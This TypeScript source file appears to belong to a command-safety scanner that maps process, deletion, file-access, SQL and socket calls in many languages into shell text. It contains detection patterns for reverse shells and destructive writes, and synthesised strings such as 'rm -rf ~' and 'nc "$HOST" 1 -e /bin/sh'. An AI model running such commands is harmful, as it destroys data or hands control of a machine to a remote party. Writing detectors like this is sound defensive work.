import { quoteWord } from "../text/quote.ts";

/** What a script of Tcl or Expect starts and deletes, as shell text. */
export function tclCommands(text: string): readonly string[] {
  const found: string[] = [];
  for (const match of text.matchAll(/(?:^|[;\n[{])[ \t]*(?:spawn|exec|system)\s+([^;\n\]}]+)/g)) {
    found.push((match[1] ?? "").replace(/^(?:-[a-z]+\s+)+/, ""));
  }
  for (const match of text.matchAll(/(?:^|[;\n[{])[ \t]*file\s+delete\s+([^;\n\]}]+)/g)) {
    found.push(`rm -rf ${(match[1] ?? "").replace(/-force\s+|--\s+/g, "")}`);
  }
  return found;
}

/** Calls that start a command, by the name that nearly every language gives them. */
const STARTS =
  /(?:\b(?:System\.(?:cmd|shell)|os[:.]cmd|Sys\.command|callCommand|callProcess|system\*?|run-program|Process|exec|execute|spawn|run|sh|popen|exec\.Command|ProcessBuilder|Process\.Start)|\b(?:async-)?shell-command(?:-to-string)?|\bcall-process(?:-shell-command)?)[\s(]+((?:(?:"(?:[^"\\]|\\.)*"|nil|t)[\s,[]*)+)/g;

/** `"…".execute()` of Groovy, `"…".!` of Scala. */
const STARTED = /"((?:[^"\\]|\\.)*)"\s*\.\s*(?:execute\s*\(|!)/g;

/** `Command::new("rm").arg("-rf")` of Rust. */
const BUILT = /\bCommand::new([^;]{1,400})/g;

/** Calls that delete the path they are given. */
const DELETIONS =
  /(?:\bFile\.rm(?:_rf)?!?|\b(?:fs\/)?delete-(?:directory|file|tree)(?:\/files)?|\bremoveItem\s*\(\s*atPath:|\bremoveDirectoryRecursive|\bFileUtils\.(?:rm_rf|deleteDirectory)|\bos\.RemoveAll|\bfs::remove_dir_all|\bfilesystem::remove_all|\bDirectory\.Delete)[\s(]*(?:"((?:[^"\\]|\\.)*)"|(?:NSHomeDirectory|System\.user_home|homedir|user-homedir|getHomeDirectory)\b)?/g;

/** How the languages name the home of the person. */
const HOME = /(?:NSHomeDirectory|user_home|homedir|getHomeDirectory)$/;

/** `new File("a").deleteDir()` of Groovy, `File("a").deleteRecursively()` of Kotlin. */
const DELETED = /\bFile\(\s*"((?:[^"\\]|\\.)*)"\s*\)\s*\.\s*delete(?:Dir|OnExit|Recursively)?\b/g;

/** Calls that hand a statement to a database that may lose rows: `Repo.query!("truncate users")`. */
const QUERIES =
  /\b(?:query|execute|exec|run|raw|sql)\w*!?[\s(][^"\n]{0,80}"\s*((?:drop|truncate|delete\s+from|alter|update)\s(?:[^"\\]|\\.)*)"/gi;

/** `Repo.delete_all(User)`: a schema, with no query. */
const EMPTIED = /\bRepo\.delete_all\(?\s*[A-Z][\w.]*\s*(?:\)|$)/m;

/** `esyscmd(ls)`, `syscmd(`ls')` of M4. */
export function macroCommands(text: string): readonly string[] {
  const calls = text.matchAll(/\be?syscmd\(\s*`?([^\n]{1,1000}?)'?\)(?=\s*$|[^)])/gm);
  return Array.from(calls, ([, command = ""]) => command);
}

/** Calls that read the file at a path from the root or the home. */
const READINGS =
  /\b(?:(?:os\.)?ReadFile|os\.Open|ioutil\.ReadFile|read_?(?:File|to_string|lines|Text|Bytes|AllText|AllLines|string|toString)\w*!?|File(?:::|\.)(?:read!?|stream!?|open!?|OpenRead)|File(?:Input)?(?:Reader|Stream)|Path\.of|Paths\.get|slurp|fopen|ifstream|(?:new )?File|call-with-input-file|with-open-file|insert-file-contents|atPath:|contentsOfFile:)[\s([]+(?:\w+\()?"(~?\/[^"\n]{1,300})"/gi;

/** Calls that write it. */
const WRITINGS =
  /\b(?:(?:os\.)?WriteFile|os\.Create|ioutil\.WriteFile|(?:write|append)_?(?:File|Text|AllText|AllLines|string|Bytes)\w*|File(?:::|\.)(?:write!?|create)|fs::write|File(?:Output)?(?:Writer|Stream)|ofstream|spit|call-with-output-file)[\s([]+(?:\w+\()?"(~?\/[^"\n]{1,300})"/gi;

/** `fopen("a", "w")` of C and of Octave. */
const OPENED = /\bfopen\s*\(\s*"(~?\/[^"\n]{1,300})"\s*,\s*"[wa]/g;

/** A call that connects to another host, and a shell that is started: whoever is there commands it. */
const CONNECTS =
  /\b(?:Socket|TCPSocket|TcpClient|ClientSocket|net\.Dial|TcpStream::connect|gen_tcp[:.]connect|socket\s+\$)\b|\bconnect\s*\(|\[\s*socket\b/;

const SHELL = /["'`\s(](?:\/(?:usr\/)?bin\/)?(?:ba|z|da|k)?sh["'`\s]|["']cmd(?:\.exe)?["']/;

/** What code of a language without a scanner starts and deletes, as shell text, by the names of its calls. */
export function foreignCommands(text: string): readonly string[] {
  const found: string[] = [];
  for (const match of text.matchAll(STARTS)) {
    const words = [...(match[1] ?? "").matchAll(/"((?:[^"\\]|\\.)*)"/g)].map(
      (word) => word[1] ?? "",
    );
    const [first = "", ...rest] = words.map((word) => word.replace(/\\(.)/g, "$1"));
    found.push([first, ...rest.map(quoteWord)].join(" "));
  }
  for (const [, words = ""] of text.matchAll(BUILT)) {
    const texts = [...words.matchAll(/"((?:[^"\\]|\\.)*)"/g)].map((word) => word[1] ?? "");
    found.push(texts.map(quoteWord).join(" "));
  }
  for (const match of text.matchAll(STARTED)) found.push((match[1] ?? "").replace(/\\(.)/g, "$1"));
  for (const match of text.matchAll(/`([^`\n]+)`/g)) found.push(match[1] ?? "");
  for (const match of text.matchAll(DELETIONS)) {
    if (match[1] !== undefined) found.push(`rm -rf ${quoteWord(match[1])}`);
    else if (HOME.test(match[0])) found.push("rm -rf ~");
  }
  for (const [, path = ""] of text.matchAll(DELETED)) found.push(`rm -rf ${quoteWord(path)}`);
  for (const [, sql = ""] of text.matchAll(QUERIES)) found.push(`psql -c ${quoteWord(sql)}`);
  if (EMPTIED.test(text)) found.push("psql -c 'delete from objects'");
  for (const [, path = ""] of text.matchAll(READINGS)) found.push(`cat ${quoteWord(path)}`);
  for (const [, path = ""] of [...text.matchAll(WRITINGS), ...text.matchAll(OPENED)])
    found.push(`echo x > ${quoteWord(path)}`);
  if (CONNECTS.test(text) && SHELL.test(text)) found.push('nc "$HOST" 1 -e /bin/sh');
  return found;
}
